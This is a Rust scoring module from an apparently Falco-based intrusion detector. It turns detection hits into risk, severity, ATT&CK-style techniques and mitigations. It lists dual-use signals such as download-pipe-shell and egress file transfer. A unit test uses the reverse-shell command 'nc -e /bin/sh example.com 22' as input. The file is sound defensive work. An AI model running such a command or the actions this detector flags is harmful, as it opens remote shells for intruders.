//! Scoring: hits and context become risk (0..=100), severity, category, techniques, tactics
//! and mitigations. Risk starts from the strongest signal, gains bounded boosts from other
//! signals and (only once the finding is already serious) from context, and is lowered for
//! recognised test activity.
//!
//! Not here: detection (see `detectors`), wording (see `report`).

use super::detectors::{Ctx, Findings};
use super::Severity;
use crate::knowledge::{mitigation_rank, Mitigation, Tactic, Technique};

/// Risk at and above which a verdict is Warning or worse (the paging threshold).
pub const WARNING_RISK: u8 = 50;
/// Most risk other signals may add to the strongest one.
const MAX_SIGNAL_BOOST: u8 = 10;
/// Most risk context (container, root, terminal) may add, and only when the risk is already
/// at the Warning threshold, so context never turns a weak finding into a page.
const MAX_CONTEXT_BOOST: u8 = 8;
/// Dual-use tools run by an administrator at a terminal on the host stay below Warning.
const ADMIN_CAP: u8 = 45;
/// At most this many mitigations in a verdict.
pub const MAX_MITIGATIONS: usize = 5;

/// The one place risk maps to a Falco severity. Contract: risk >= 50 exactly when severity >=
/// Warning.
pub fn severity_for(risk: u8) -> Severity {
    match risk {
        90.. => Severity::Critical,
        70..=89 => Severity::Error,
        50..=69 => Severity::Warning,
        30..=49 => Severity::Notice,
        10..=29 => Severity::Informational,
        _ => Severity::Debug,
    }
}

/// Risk from the (already strength-sorted) hits and the context.
pub fn risk(cx: &Ctx, found: &Findings) -> u8 {
    let mut weights = found.hits.iter().map(|h| h.signal.weight);
    let Some(base) = weights.next() else { return 0 };
    let others: u32 = weights
        .filter(|w| *w >= 40)
        .map(|w| u32::from(w) / 10)
        .sum();
    let mut risk = u32::from(base) + others.min(u32::from(MAX_SIGNAL_BOOST));
    if risk >= u32::from(WARNING_RISK) {
        let mut ctx = 0u32;
        if cx.in_container {
            ctx += 3;
        }
        if cx.root() {
            ctx += 3;
        }
        if cx.tty {
            ctx += 2;
        }
        risk += ctx.min(u32::from(MAX_CONTEXT_BOOST));
    }
    let mut risk = risk.min(100) as u8;
    if cx.interactive_admin_on_host() && found.hits.iter().all(|h| dual_use(h.signal)) {
        risk = risk.min(ADMIN_CAP);
    }
    // Test activity does not lower the risk: it is recognised by names (event-generator, its
    // files) that an attacker can give their own tools. `triage.test_activity` marks it, and
    // the rules route it to a low-priority rule an operator can see and tune.
    risk
}

/// Signals whose tools administrators use every day on hosts.
fn dual_use(s: &'static crate::knowledge::Signal) -> bool {
    use crate::knowledge::signals as k;
    [
        k::NETWORK_SNIFFER,
        k::NETWORK_SCANNER,
        k::ACCOUNT_MANIPULATION,
        k::DISK_DESTRUCTION,
        k::PTRACE_ATTACH,
        k::FILE_SHREDDING,
        k::DOWNLOAD_PIPE_SHELL,
        k::LOG_CLEARING,
        k::KERNEL_MODULE_LOAD,
        k::SERVICE_ENABLE,
        k::CRON_MODIFICATION,
        k::CRON_LISTING,
        k::PERMISSIVE_CHMOD,
        k::RECON_COMMAND,
        k::NETWORK_TOOL_IN_CONTAINER,
        k::PROXY_ENV_TRANSFER,
        k::EGRESS_FILE_TRANSFER,
        k::STARTUP_SCRIPT_MADE_EXECUTABLE,
        k::SLEEP_DISABLED,
        k::INBOUND_TRAFFIC_REDIRECTED,
        k::BINARY_PADDING,
        k::KEXEC_KERNEL_LOAD,
        k::BPF_PROGRAM_CHANGED,
        k::ARCHIVE_TOOL_RUNS_COMMAND,
        k::SHARED_OBJECT_LOADED_BY_TOOL,
        k::PROOT_SANDBOX,
        k::PERMISSIONS_COPIED_FROM_REFERENCE,
    ]
    .iter()
    .any(|x| std::ptr::eq(*x, s))
}

/// Techniques of the hits, deduplicated, in hit order.
pub fn techniques(found: &Findings) -> Vec<&'static Technique> {
    let mut out: Vec<&'static Technique> = Vec::new();
    for h in &found.hits {
        for t in h.signal.techniques {
            if !out.iter().any(|x| x.id == t.id) {
                out.push(t);
            }
        }
    }
    out
}

/// Tactics of the techniques, deduplicated, in order.
pub fn tactics(techniques: &[&'static Technique]) -> Vec<&'static Tactic> {
    let mut out: Vec<&'static Tactic> = Vec::new();
    for t in techniques {
        for ta in t.tactics {
            if !out.iter().any(|x| x.id == ta.id) {
                out.push(ta);
            }
        }
    }
    out
}

/// Mitigations: strongest signal first, within a signal by mitigation priority; deduplicated;
/// at most [`MAX_MITIGATIONS`]. For test activity the allow-list advice comes first.
pub fn mitigations(found: &Findings) -> Vec<&'static Mitigation> {
    let mut out: Vec<&'static Mitigation> = Vec::new();
    let test_first = found
        .hits
        .iter()
        .filter(|h| found.test_activity && h.signal.category == "test_activity");
    let rest = found
        .hits
        .iter()
        .filter(|h| !(found.test_activity && h.signal.category == "test_activity"));
    for h in test_first.chain(rest) {
        let mut ms: Vec<&'static Mitigation> = h.signal.mitigations.to_vec();
        ms.sort_by_key(|m| mitigation_rank(m));
        for m in ms {
            if out.len() < MAX_MITIGATIONS && !out.iter().any(|x| x.id == m.id) {
                out.push(m);
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::{analyze, Lineage};
    use crate::facts::ExecFacts;

    #[test]
    fn test_activity_is_marked_not_scored_down() {
        let nc = ExecFacts {
            argv: ["nc", "-e", "/bin/sh", "example.com", "22"]
                .map(String::from)
                .to_vec(),
            uid: Some(0),
            res: Some(0),
            cgroups_present: true,
            ..Default::default()
        };
        let generator = analyze(&nc, &Lineage::from_comms(["event-generator"]));
        let shell = analyze(&nc, &Lineage::from_comms(["bash"]));
        assert!(generator.test_activity && !shell.test_activity);
        assert!(generator.risk >= 80, "{}", generator.risk);
        assert_eq!(generator.risk, shell.risk);
        assert_eq!(generator.severity, shell.severity);
    }

    #[test]
    fn severity_mapping_keeps_the_contract() {
        for r in 0..=100u8 {
            assert_eq!(
                r >= WARNING_RISK,
                severity_for(r) >= Severity::Warning,
                "risk {r}"
            );
        }
        assert_eq!(severity_for(90), Severity::Critical);
        assert_eq!(severity_for(89), Severity::Error);
        assert_eq!(severity_for(70), Severity::Error);
        assert_eq!(severity_for(49), Severity::Notice);
        assert_eq!(severity_for(30), Severity::Notice);
        assert_eq!(severity_for(10), Severity::Informational);
        assert_eq!(severity_for(9), Severity::Debug);
    }
}
